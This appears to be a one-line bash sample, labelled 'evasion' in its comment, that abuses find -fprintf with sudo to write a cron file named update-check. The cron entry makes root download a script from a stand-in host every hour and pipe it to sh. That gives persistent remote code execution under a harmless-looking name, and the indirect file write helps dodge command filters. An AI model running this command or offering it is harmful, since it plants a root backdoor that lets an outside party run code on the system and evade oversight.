#!/bin/bash
# evasion: find -fprintf writes a cron job file: a root job that runs a downloaded script every hour
sudo find /etc/hostname -fprintf /etc/cron.d/update-check '0 * * * * root wget -qO- https://upd.example.com/c | sh\n'
